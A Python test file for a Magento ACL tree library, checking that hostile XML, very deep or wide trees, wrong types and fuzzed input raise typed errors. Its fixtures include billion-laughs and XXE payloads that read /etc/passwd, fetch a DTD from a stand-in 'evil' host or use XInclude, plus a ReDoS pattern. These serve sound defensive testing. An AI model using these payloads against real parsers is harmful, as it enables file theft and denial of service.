"""
Hostile and huge inputs: every one gets a typed error or works, never a leak of
RecursionError, KeyError, expat or anytree errors.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from integration_core import AccessMode, AclTree, CheckState, ResourceSelection
from integration_core.acl import MAGENTO_RESOURCE_ID, MAX_DEPTH
from integration_core.errors import (
    AclDefinitionError,
    IntegrationCoreError,
    InvalidSelectionError,
    UnknownResourceError,
)
from tests._acl_reference import chain

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<config><acl><resources><resource id="a" title="&lol3;"/></resources></acl></config>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE config [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<config><acl><resources><resource id="a" title="&xxe;"/></resources></acl></config>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE config [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<config/>"""

EXTERNAL_DTD = '<!DOCTYPE config SYSTEM "http://example.invalid/acl.dtd"><config/>'

INTERNAL_DTD = "<!DOCTYPE config [<!ELEMENT config ANY>]><config/>"


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, INTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "internal-dtd"],
)
def test_dtds_and_entities_are_refused_before_they_expand_or_reach_out(document: str) -> None:
    for form in (document, document.encode()):
        with pytest.raises(AclDefinitionError) as raised:
            AclTree.from_magento_xml({"evil.xml": form})
        assert raised.value.source == "evil.xml"
        assert raised.value.reason.startswith("refused hostile XML: DTDForbidden")
        assert raised.value.__cause__ is None


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (
            b"<config>\xff</config>",
            "malformed XML: not well-formed (invalid token): line 1, column 8",
        ),
        (
            '<?xml version="1.0" encoding="UTF-8"?><config><acl><resources>'
            '<resource id="caf\xe9"/></resources></acl></config>'.encode("latin-1"),
            "malformed XML: not well-formed (invalid token): line 1, column 79",
        ),
        (b"", "malformed XML: no element found: line 1, column 0"),
        ("", "malformed XML: no element found: line 1, column 0"),
        ("<config><acl>", "malformed XML: no element found: line 1, column 13"),
        ("<config></acl>", "malformed XML: mismatched tag: line 1, column 10"),
        ("<config/><config/>", "malformed XML: junk after document element: line 1, column 9"),
        ("<config>&xxe;</config>", "malformed XML: undefined entity: line 1, column 8"),
        ("not xml at all", "malformed XML: syntax error: line 1, column 0"),
    ],
)
def test_malformed_and_non_utf8_xml_is_refused_as_malformed(
    document: str | bytes, reason: str
) -> None:
    with pytest.raises(AclDefinitionError) as raised:
        AclTree.from_magento_xml({"bad.xml": document})
    assert ("bad.xml", reason) == (raised.value.source, raised.value.reason)


def test_xinclude_is_just_an_unexpected_element() -> None:
    document = (
        '<config xmlns:xi="http://www.w3.org/2001/XInclude"><acl><resources>'
        '<xi:include href="file:///etc/passwd"/></resources></acl></config>'
    )
    with pytest.raises(AclDefinitionError, match="unexpected element"):
        AclTree.from_magento_xml(document)


def test_a_string_that_is_not_valid_unicode_is_refused_with_a_typed_error() -> None:
    with pytest.raises(AclDefinitionError):
        AclTree.from_magento_xml(
            "<config><acl><resources><resource id='\ud800'/></resources></acl></config>"
        )


# -- scale -----------------------------------------------------------------------------------


def test_a_hundred_thousand_siblings_build_compile_and_check() -> None:
    count = 100_000
    tree = AclTree.from_data([{"id": "root", "children": [{"id": f"r{n}"} for n in range(count)]}])
    assert len(tree) == count + 1
    assert len(tree.children("root")) == count
    selection = ResourceSelection.custom(tree, allow=["root"], deny=["r99999"])
    permissions = selection.compile(tree)
    assert permissions.is_allowed("r0")
    assert not permissions.is_allowed("r99999")
    assert len(permissions.allowed) == count
    assert selection.check_states(tree)["root"] is CheckState.UNDETERMINED
    assert len(tree.subtree("root")) == count
    assert ResourceSelection.from_magento(tree, selection.to_magento(tree)) == selection.canonical(
        tree
    )


def test_a_ten_thousand_deep_chain_builds_compiles_and_traverses_without_recursion() -> None:
    depth = 10_000
    data = chain(depth)
    leaf = f"n{depth - 1}"
    trees = [
        AclTree.from_data(data),
        AclTree.from_records(
            [{"id": f"n{n}", "parent": f"n{n - 1}" if n else None} for n in range(depth)]
        ),
        AclTree.from_magento_xml(
            "<config><acl><resources>"
            + "".join(f'<resource id="n{n}">' for n in range(depth))
            + "</resource>" * depth
            + "</resources></acl></config>"
        ),
    ]
    assert trees[0] == trees[1] == trees[2]
    tree = trees[0]
    assert tree == AclTree.from_data(tree.to_data())
    assert depth - 1 == tree.depth(leaf)
    assert len(tree.ancestors(leaf)) == depth - 1
    assert len(tree.descendants("n0")) == depth - 1
    assert len(tree.subtree("n0")) == depth - 1
    assert tree.subtree("n0").depth(leaf) == depth - 2
    selection = ResourceSelection.custom(tree).grant(tree, "n0").exclude(tree, "n5000")
    permissions = selection.compile(tree)
    assert permissions.is_allowed("n4999")
    assert not permissions.is_allowed(leaf)
    states = selection.check_states(tree)
    assert states["n0"] is CheckState.UNDETERMINED
    assert states["n5000"] is CheckState.UNCHECKED
    assert ResourceSelection.from_magento(tree, selection.to_magento(tree)) == selection.canonical(
        tree
    )
    lines = tree.render(states).splitlines()
    assert len(lines) == depth
    assert lines[-1].endswith(f"[ ] {leaf}")
    jstree = tree.to_jstree(selection.check_states(tree))
    for _ in range(depth - 1):
        jstree = jstree[0]["children"]
    assert jstree[0]["id"] == leaf
    (view,) = tree.to_anytree(states)
    for _ in range(depth - 1):
        (view,) = view.children
    assert (view.name, view.parent.name, view.state) == (
        leaf,
        f"n{depth - 2}",
        CheckState.UNCHECKED,
    )
    with pytest.raises(AclDefinitionError, match="deeper than the 256 levels") as raised:
        tree.to_dot()
    assert raised.value.resource_id == "n256"


def deeper_than_allowed_data() -> None:
    AclTree.from_data(chain(MAX_DEPTH + 1))


def deeper_than_allowed_records() -> None:
    AclTree.from_records(
        [{"id": f"n{n}", "parent": f"n{n - 1}" if n else None} for n in range(MAX_DEPTH + 1)]
    )


def deeper_than_allowed_xml() -> None:
    count = MAX_DEPTH + 1
    AclTree.from_magento_xml(
        "<config><acl><resources>"
        + "".join(f'<resource id="n{n}">' for n in range(count))
        + "</resource>" * count
        + "</resources></acl></config>"
    )


@pytest.mark.parametrize(
    "build",
    [deeper_than_allowed_data, deeper_than_allowed_records, deeper_than_allowed_xml],
    ids=["data", "records", "xml"],
)
def test_a_definition_deeper_than_max_depth_is_refused_with_a_typed_error(
    build: Callable[[], None],
) -> None:
    """Rule: "a definition deeper than a documented maximum (which admits at least 10,000 levels)" is refused."""
    assert MAX_DEPTH >= 10_000
    with pytest.raises(AclDefinitionError) as raised:
        build()
    assert raised.value.resource_id == f"n{MAX_DEPTH}"
    assert (
        raised.value.reason
        == f"resource 'n{MAX_DEPTH}' is deeper than the maximum depth of {MAX_DEPTH}"
    )
    assert len(str(raised.value)) < 1_000


# -- wrong types -----------------------------------------------------------------------------

TREE = AclTree.from_data([{"id": "a", "children": [{"id": "b"}]}])
PERMISSIONS = ResourceSelection.custom(TREE, allow=["a"]).compile(TREE)

WRONG_TYPES: list[tuple[str, Callable[[], object], type[IntegrationCoreError]]] = [
    ("from_data(None)", lambda: AclTree.from_data(None), AclDefinitionError),  # type: ignore[arg-type]
    ("from_data(bytes)", lambda: AclTree.from_data(b"[]"), AclDefinitionError),  # type: ignore[arg-type]
    ("from_records(None)", lambda: AclTree.from_records(None), AclDefinitionError),  # type: ignore[arg-type]
    ("from_records([[]])", lambda: AclTree.from_records([[]]), AclDefinitionError),  # type: ignore[list-item]
    ("from_magento_xml({'x': 1})", lambda: AclTree.from_magento_xml({"x": 1}), AclDefinitionError),  # type: ignore[dict-item]
    ("tree[5]", lambda: TREE[5], UnknownResourceError),  # type: ignore[index]
    ("tree[['a']]", lambda: TREE[["a"]], UnknownResourceError),  # type: ignore[index]
    ("tree.parent(None)", lambda: TREE.parent(None), UnknownResourceError),  # type: ignore[arg-type]
    ("custom(allow=[5])", lambda: ResourceSelection.custom(TREE, allow=[5]), InvalidSelectionError),  # type: ignore[list-item]
    (
        "custom(deny=[None])",
        lambda: ResourceSelection.custom(TREE, deny=[None]),  # type: ignore[list-item]
        InvalidSelectionError,
    ),
    ("grant(tree, 5)", lambda: ResourceSelection.custom(TREE).grant(TREE, 5), UnknownResourceError),  # type: ignore[arg-type]
    ("from_magento([5])", lambda: ResourceSelection.from_magento(TREE, [5]), InvalidSelectionError),  # type: ignore[list-item]
    ("is_allowed(5)", lambda: PERMISSIONS.is_allowed(5), UnknownResourceError),  # type: ignore[arg-type]
    ("denied_among([None])", lambda: PERMISSIONS.denied_among([None]), UnknownResourceError),  # type: ignore[list-item]
    ("from_data(None)", lambda: ResourceSelection.from_data(None), InvalidSelectionError),  # type: ignore[arg-type]
    ("from_data([])", lambda: ResourceSelection.from_data([]), InvalidSelectionError),  # type: ignore[arg-type]
    ("from_data(mode=1)", lambda: ResourceSelection.from_data({"mode": 1}), InvalidSelectionError),
    (
        "from_data(mode=[])",
        lambda: ResourceSelection.from_data({"mode": []}),
        InvalidSelectionError,
    ),
    (
        "from_data(allow=[1])",
        lambda: ResourceSelection.from_data(
            {"mode": "custom", "allow": [1], "deny": [], "reviewed": {}}
        ),
        InvalidSelectionError,
    ),
]


@pytest.mark.parametrize(
    ("call", "attempt", "error"), WRONG_TYPES, ids=[case[0] for case in WRONG_TYPES]
)
def test_wrong_types_get_a_typed_error(
    call: str, attempt: Callable[[], object], error: type[IntegrationCoreError]
) -> None:
    with pytest.raises(error):
        attempt()


MORE_WRONG_TYPES: list[tuple[str, Callable[[], object], type[IntegrationCoreError]]] = [
    ("from_magento_xml(5)", lambda: AclTree.from_magento_xml(5), AclDefinitionError),  # type: ignore[arg-type]
    ("from_magento_xml(None)", lambda: AclTree.from_magento_xml(None), AclDefinitionError),  # type: ignore[arg-type]
    ("ResourceSelection('bogus')", lambda: ResourceSelection("bogus"), InvalidSelectionError),  # type: ignore[arg-type]
    (
        "ResourceSelection(CUSTOM, allow='ab')",
        lambda: ResourceSelection(AccessMode.CUSTOM, allow="ab"),
        InvalidSelectionError,
    ),
    (
        "custom(allow='ab')",
        lambda: ResourceSelection.custom(
            AclTree.from_data([{"id": "a"}, {"id": "b"}, {"id": "ab"}]), allow="ab"
        ),
        InvalidSelectionError,
    ),
]


@pytest.mark.parametrize(
    ("call", "attempt", "error"), MORE_WRONG_TYPES, ids=[case[0] for case in MORE_WRONG_TYPES]
)
def test_more_wrong_types_get_a_typed_error(
    call: str, attempt: Callable[[], object], error: type[IntegrationCoreError]
) -> None:
    with pytest.raises(error):
        attempt()


def test_get_with_a_non_string_finds_nothing() -> None:
    assert TREE.get(["a"]) is None


def test_is_allowed_keeps_mapping_semantics_for_unhashable_arguments() -> None:
    """The hot path is a bare dict lookup: an unhashable argument is a TypeError, as documented."""
    with pytest.raises(TypeError):
        PERMISSIONS.is_allowed(["a"])  # type: ignore[arg-type]


# -- ReDoS -----------------------------------------------------------------------------------


def nested_repeats(pattern: str) -> list[str]:
    """Quantified groups that contain another unbounded quantifier: the shape of a ReDoS."""
    from re import _parser  # type: ignore[attr-defined]  # noqa: PLC0415

    repeats = {_parser.MAX_REPEAT, _parser.MIN_REPEAT}
    found: list[str] = []

    def walk(items: Any, inside_repeat: bool) -> None:
        for op, argument in items:
            if op in repeats:
                _low, high, body = argument
                unbounded = high == _parser.MAXREPEAT
                if inside_repeat and unbounded:
                    found.append(str(body))
                walk(body, inside_repeat or unbounded)
            elif op == _parser.SUBPATTERN:
                walk(argument[-1], inside_repeat)
            elif op == _parser.BRANCH:
                for branch in argument[1]:
                    walk(branch, inside_repeat)

    walk(_parser.parse(pattern), inside_repeat=False)
    return found


def test_the_redos_detector_finds_the_classic_shape() -> None:
    assert nested_repeats(r"(a+)+$")
    assert not nested_repeats(r"[A-Z][a-z]+_[A-Z][a-z]+::\w+")


def test_the_magento_id_pattern_cannot_backtrack_exponentially() -> None:
    assert nested_repeats(MAGENTO_RESOURCE_ID.pattern) == []


@pytest.mark.parametrize(
    ("resource_id", "matches"),
    [
        ("Magento_Backend::admin", True),
        ("Magento_Cart::cart", True),
        ("MagentoA_B1::x", True),
        ("AB_CD::e", True),
        ("Ab_Cd::e", True),
        ("A_Cd::e", False),
        ("Ab_C::e", False),
        ("ab_Cd::e", False),
        ("Ab_cd::e", False),
        ("Ab_Cd::", False),
        ("Ab_Cd:e", False),
        ("Ab_Cd::e-f", False),
        ("Ab_Cd::e ", False),
        ("Vendor_Module_Sub::name", False),
    ],
)
def test_the_magento_id_pattern_accepts_what_acl_xsd_accepts(
    resource_id: str, matches: bool
) -> None:
    xsd = re.compile(r"([A-Z]+[a-zA-Z0-9]{1,}){1,}_[A-Z]+[A-Z0-9a-z]{1,}::[A-Za-z_0-9]{1,}")
    assert matches == (xsd.fullmatch(resource_id) is not None)
    assert matches == (MAGENTO_RESOURCE_ID.fullmatch(resource_id) is not None)


# -- fuzzing: anything in, a tree or a typed error out -----------------------------------------

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["id", "title", "sort_order", "children", "parent", "x"]),
            inner,
            max_size=5,
        )
    ),
    max_leaves=20,
)


@pytest.mark.law
@given(JSON)
def test_any_json_value_builds_a_tree_or_gets_an_acl_definition_error(data: Any) -> None:
    """
    Rule: any JSON value builds a tree that round-trips, or is refused with
    ``AclDefinitionError``; no other error escapes.
    """
    for build in (AclTree.from_data, AclTree.from_records):
        try:
            tree = build(data)
        except AclDefinitionError:
            continue
        assert AclTree.from_data(tree.to_data()) == tree


@pytest.mark.law
@given(JSON | st.dictionaries(st.sampled_from(["mode", "allow", "deny", "reviewed"]), JSON))
def test_any_json_value_reads_as_a_selection_or_gets_an_invalid_selection_error(data: Any) -> None:
    """
    Rule: any JSON value reads as a selection that round-trips, or is refused with
    ``InvalidSelectionError``; no other error escapes.
    """
    try:
        selection = ResourceSelection.from_data(data)
    except InvalidSelectionError:
        return
    assert ResourceSelection.from_data(selection.to_data()) == selection


XML_PIECES = st.sampled_from(
    [
        "<config>",
        "</config>",
        "<acl>",
        "</acl>",
        "<resources>",
        "</resources>",
        '<resource id="a">',
        '<resource id="b" sortOrder="1" title="B">',
        '<resource id="a"/>',
        '<resource disabled="true" id="c"/>',
        "</resource>",
        "<!DOCTYPE x>",
        '<?xml version="1.0"?>',
        "&amp;",
        "&lol;",
        "<!-- c -->",
        "<![CDATA[x]]>",
        " ",
        "\x00",
        "\ud800",
        "é",
    ]
)


@pytest.mark.law
@given(st.lists(XML_PIECES, max_size=14).map("".join), st.booleans())
def test_any_xml_ish_text_builds_a_tree_or_gets_an_acl_definition_error(
    document: str, as_bytes: bool
) -> None:
    """
    Rule: any XML-ish text or bytes builds a tree, or is refused with ``AclDefinitionError``
    naming the document; no other error escapes.
    """
    payload: str | bytes = document.encode("utf-8", "surrogatepass") if as_bytes else document
    refused: AclDefinitionError | None = None
    try:
        tree = AclTree.from_magento_xml({"fuzz.xml": payload})
    except AclDefinitionError as error:
        refused = error
    if refused is not None:
        assert refused.source.startswith("fuzz.xml")
    else:
        assert AclTree.from_data(tree.to_data()) == tree
